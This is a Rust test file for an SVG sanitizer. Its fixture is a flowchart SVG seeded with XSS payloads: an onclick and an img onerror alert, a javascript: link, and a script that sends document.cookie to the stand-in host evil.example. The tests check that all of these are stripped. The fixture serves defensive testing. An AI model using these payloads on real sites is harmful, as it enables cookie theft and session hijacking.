use svgate_core::{SvgElement, resolve_dimensions, sanitize_svg};

const FLOWCHART: &str = r##"<svg id="inline-1" width="100%" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" class="flowchart" style="max-width: 214px;" viewBox="-8 -8 214 174" role="graphics-document document" aria-roledescription="flowchart-v2"><style>#inline-1{font-family:"trebuchet ms",verdana,arial,sans-serif;font-size:16px;fill:#333;}#inline-1 .node rect{fill:#ECECFF;stroke:#9370DB;stroke-width:1px;}</style><g><marker id="inline-1_flowchart-v2-pointEnd" class="marker flowchart-v2" viewBox="0 0 10 10" refX="5" refY="5" markerUnits="userSpaceOnUse" markerWidth="8" markerHeight="8" orient="auto"><path d="M 0 0 L 10 5 L 0 10 z" class="arrowMarkerPath" style="stroke-width: 1; stroke-dasharray: 1, 0;"/></marker><g class="root"><g class="edgePaths"><path d="M99,54L99,104" id="L_A_B_0" class="edge-thickness-normal edge-pattern-solid flowchart-link" marker-end="url(#inline-1_flowchart-v2-pointEnd)"/></g><g class="nodes"><g class="node default" id="flowchart-A-0" data-id="A" transform="translate(99, 19)" onclick="alert(document.cookie)"><rect class="basic label-container" x="-52" y="-27" width="104" height="54"/><g class="label" transform="translate(-22, -12)"><foreignObject width="44" height="24"><div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; white-space: nowrap;"><span class="nodeLabel"><p>Start<img src="x" onerror="alert(1)"/></p></span></div></foreignObject></g></g><a xlink:href="javascript:alert(1)"><g class="node default" id="flowchart-B-1" transform="translate(99, 139)"><rect x="-40" y="-19" width="80" height="38"/><text x="0" y="5">End</text></g></a></g></g></g><script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script></svg>"##;

#[test]
fn mermaid_like_output_stays_well_formed_and_inert() {
    let clean = sanitize_svg(FLOWCHART);

    let doc = roxmltree::Document::parse(&clean).expect("sanitized output parses as XML");
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "svg");

    for node in doc.descendants().filter(|n| n.is_element()) {
        let name = node.tag_name().name().to_ascii_lowercase();
        assert!(!["script", "img"].contains(&name.as_str()), "{name} survived");
        for attr in node.attributes() {
            assert!(
                !attr.name().to_ascii_lowercase().starts_with("on"),
                "{} survived on <{name}>",
                attr.name()
            );
            assert!(
                !attr.value().to_ascii_lowercase().contains("javascript:"),
                "javascript URI survived on <{name}>"
            );
        }
    }

    assert!(clean.contains("<p>Start</p>"));
    assert!(clean.contains(r#"<text x="0" y="5">End</text>"#));
    assert!(clean.contains("#inline-1 .node rect{fill:#ECECFF;stroke:#9370DB;stroke-width:1px;}"));
    assert!(clean.contains(r#"marker-end="url(#inline-1_flowchart-v2-pointEnd)""#));
    assert!(clean.contains(r#"aria-roledescription="flowchart-v2""#));
    assert!(clean.contains(r#"data-id="A""#));
    assert!(!clean.contains("evil.example"));
}

#[test]
fn dimensions_come_from_the_sanitized_root() {
    let el = SvgElement::sanitize(FLOWCHART);
    let dims = el.dimensions();
    assert_eq!((dims.width, dims.height), (214.0, 174.0));
    assert_eq!(resolve_dimensions(el.as_str()), dims);
}

#[test]
fn same_input_same_output() {
    assert_eq!(sanitize_svg(FLOWCHART), sanitize_svg(FLOWCHART));
}
